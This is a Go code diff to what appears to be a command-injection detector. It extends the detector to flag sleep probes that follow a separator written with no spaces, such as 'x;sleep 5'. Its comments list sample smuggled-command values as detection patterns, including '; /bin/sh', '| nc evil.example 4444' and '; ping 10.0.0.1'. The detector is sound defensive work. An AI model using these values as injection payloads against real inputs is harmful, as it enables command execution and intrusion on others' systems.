@@ -169,7 +169,8 @@ func commandAt(v []byte, i int, sub bool) bool {
 //   - a wrapper that runs the command after it (runsNext): "; command
 //     id", "; builtin eval id", "| env id", "; timeout 5 id";
 //   - a command by its path: "; /bin/sh";
-//   - sleep with a number that ends the value, likewise: "1; sleep 10 ;";
+//   - sleep with a number that ends the value, likewise or after a
+//     separator with no space around it: "1; sleep 10 ;", "x;sleep 5";
 //   - a network command with a host or address argument:
 //     "| nc evil.example 4444", "; ping 10.0.0.1";
 //   - net with a subcommand, ending the value or with a /option later:
@@ -183,6 +184,9 @@ func probeAt(v []byte, i int, loneAmp, afterValue, lineBreak bool) bool {
 	// "&&" and "||" run the command after them only on a result: a
 	// shell's, not prose's, punctuation ("x&&id", "x || pwd").
 	doubled := i >= 2 && (v[i-1] == '&' && v[i-2] == '&' || v[i-1] == '|' && v[i-2] == '|')
+	// A separator with no space on either side ("day;sleep 10") is a
+	// shell's: prose puts a space after ';' and '|'.
+	tight := !lineBreak && i >= 2 && i < len(v) && !isSpaceByte(v[i]) && !isSpaceByte(v[i-2])
 	i = skipSpace(v, i)
 	if i >= len(v) {
 		return false
@@ -256,7 +260,7 @@ func probeAt(v []byte, i int, loneAmp, afterValue, lineBreak bool) bool {
 		return next > j && probeEnd(v, skipSpace(v, next)) && probeCommand(v[j:next])
 	case probeEnd(v, rest) && !loneAmp && (afterValue || doubled) && probeCommand(w):
 		return true
-	case string(w) == "sleep" && rest < len(v) && rest > end && afterValue && digitsToEnd(v, rest):
+	case string(w) == "sleep" && rest < len(v) && rest > end && (afterValue || tight) && digitsToEnd(v, rest):
 		return true
 	case (string(w) == "nc" || string(w) == "ping" || string(w) == "dig" || string(w) == "ssh" || string(w) == "ftp") &&
 		rest > end && hostArg(v, rest):
